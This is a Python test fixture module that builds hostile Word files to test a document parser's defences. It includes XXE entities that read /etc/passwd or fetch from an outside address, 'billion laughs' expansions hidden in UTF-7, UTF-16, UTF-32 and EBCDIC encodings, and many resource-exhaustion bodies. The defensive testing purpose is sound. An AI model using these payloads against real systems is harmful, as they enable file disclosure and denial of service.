"""Word files that somebody made to do harm: what stands in their body."""

from collections.abc import Callable, Mapping

from tests.ingest_transcripts.made_up import W, p, table, word
from tests.proof.hostile.attack_texts import Attack
from tests.proof.hostile.attack_word import ATTRIBUTE, LAUGHS, TALK, many, with_part
from tests.proof.hostile.bases import Bases, packed, unpacked

_BODY = "word/document.xml"
_NAMESPACE = ' xmlns:n{n}="u{n}"'
_ACCENTS = "e" + "\u0301\u0316" * 100_000


def _body(inside: Callable[[], str], before: str = "") -> Attack:
    def xml() -> bytes:
        start = f'{before}<w:document xmlns:w="{W}" xmlns:o="urn:o"><w:body>'
        return f"{start}{TALK}{inside()}</w:body></w:document>".encode()

    return with_part(_BODY, xml)


def _encoded(codec: str, doctype: str) -> Attack:
    """Entities in an encoding that hides them from who looks for their ASCII letters."""
    body = f'<w:document xmlns:w="{W}"><w:body>{TALK}{p("&j;")}</w:body></w:document>'
    return with_part(_BODY, lambda: f'<?xml version="1.0" encoding="{codec}"?>{doctype}{body}'.encode(codec))


def _hidden_in_footnotes(bases: Bases) -> bytes:
    notes = f'<w:footnotes xmlns:w="{W}"><w:footnote>{p("&j;")}</w:footnote></w:footnotes>'
    xml = f'<?xml version="1.0" encoding="utf-7"?>{LAUGHS}{notes}'.encode("utf-7")
    return packed({**unpacked(word(TALK, {"footnotes": p("a")})), "word/footnotes.xml": xml})


def _nested(count: int, inside: str) -> str:
    return "<w:ins>" * count + inside + "</w:ins>" * count


BODIES: Mapping[str, Attack] = {
    "laughs": _body(lambda: p("&j;"), LAUGHS),
    "laughs in an attribute": _body(lambda: '<w:p w:rsidR="&j;"/>', LAUGHS),
    "an entity of a file": _body(lambda: p("&j;"), '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'),
    "an entity of an address": _body(lambda: p("&j;"), '<!DOCTYPE x [<!ENTITY % j SYSTEM "http://192.0.2.1/x"> %j;]>'),
    "a document type elsewhere": _body(lambda: "", '<!DOCTYPE x SYSTEM "http://192.0.2.1/x">'),
    "entities in UTF-7": _encoded("utf-7", LAUGHS),
    "entities in UTF-16": _encoded("utf-16", LAUGHS),
    "entities in UTF-32": _encoded("utf-32", LAUGHS),
    "entities in EBCDIC": _encoded("cp037", LAUGHS),
    "entities in UTF-7 in the footnotes": ("docx", _hidden_in_footnotes),
    "entities in a part that is not read": with_part("docProps/app.xml", lambda: f"{LAUGHS}<a>&j;</a>".encode()),
    "five million paragraphs": _body(lambda: "<w:p/>" * 5_000_000),
    "a million paragraphs": _body(lambda: "<w:p/>" * 1_000_000),
    "turns without end": _body(lambda: "<w:p><w:r><w:t>I: a?</w:t></w:r></w:p>" * 199_000),
    "breaks without end": _body(lambda: f"<w:p><w:r>{'<w:br/>' * 950_000}</w:r></w:p>"),
    "signs left out without end": _body(lambda: f"<w:p>{'<w:sym/>' * 950_000}</w:p>"),
    "a paragraph for each sign left out": _body(lambda: "<w:p><w:sym/></w:p>" * 199_000),
    "deletions in deletions": _body(
        lambda: "<w:p>" + "<w:del>" * 240 + "<w:t>a</w:t>" * 50_000 + "</w:del>" * 240 + "</w:p>"
    ),
    "paragraphs far down": _body(lambda: _nested(240, "<w:p/>" * 150_000)),
    "tables far down": _body(lambda: _nested(240, table(("a", "b")) * 5_000)),
    "tables in tables": _body(lambda: "<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" * 100_000 + "</w:tc></w:tr></w:tbl>" * 80),
    "boxes in boxes": _body(
        lambda: "<w:p>" + "<w:r><w:txbxContent><w:p>" * 80 + "a" + "</w:p></w:txbxContent></w:r>" * 80 + "</w:p>"
    ),
    "twenty thousand deep": _body(lambda: _nested(20_000, "")),
    "a million deep": _body(lambda: "<a>" * 1_000_000),
    "a table of a hundred thousand rows": _body(lambda: table(*((f"N{n}", "Well.") for n in range(50_000)))),
    "a table of many columns": _body(lambda: table(("a",) * 100_000)),
    "a table of accents": _body(lambda: table(*((_ACCENTS, "Well."),) * 3)),
    "a table of accents under heads": _body(lambda: table(("Speaker", "Text"), *((_ACCENTS, "Well."),) * 3)),
    "a paragraph of accents": _body(lambda: p(f"Participants: {_ACCENTS}")),
    "a paragraph of 9 MB": _body(lambda: p("P: " + "word " * 1_900_000)),
    "five paragraphs of 9 MB": _body(lambda: p("P: " + "word " * 1_900_000) * 5),
    "an attribute of 9 MB": _body(lambda: f'<w:p w:rsidR="{"a" * 9_000_000}"/>'),
    "an attribute of 50 MB": _body(lambda: f'<w:p w:rsidR="{"a" * 50_000_000}"/>'),
    "a comment of 50 MB": _body(lambda: f"<!--{'a' * 50_000_000}-->"),
    "a million attributes": _body(lambda: f"<w:p{many(ATTRIBUTE, 1_000_000)}/>"),
    "attributes without end": _body(lambda: "<w:p a='1' b='1' c='1' d='1' e='1' f='1' g='1' h='1'/>" * 185_000),
    "a hundred thousand namespaces": _body(lambda: f"<w:p{many(_NAMESPACE, 100_000)}>{'<n1:a/>' * 100_000}</w:p>"),
    "instructions without end": _body(lambda: "<?a b?>" * 950_000),
    "signs that XML does not know": _body(lambda: p("&#0;&#xD800;&#xFFFE;")),
    "signs that nobody sees": _body(lambda: p("P: a&#x7f;&#x85;&#x9b;2J&#x202e;b")),
    "tracked insertions without end": _body(lambda: f"<w:p>{'<w:ins/>' * 950_000}</w:p>"),
    "alternatives without end": _body(
        lambda: (
            "<w:p>"
            + '<m:AlternateContent xmlns:m="http://schemas.openxmlformats.org/markup-compatibility/2006">' * 200
            + "<w:t>a</w:t>" * 10_000
            + "</m:AlternateContent>" * 200
            + "</w:p>"
        )
    ),
}
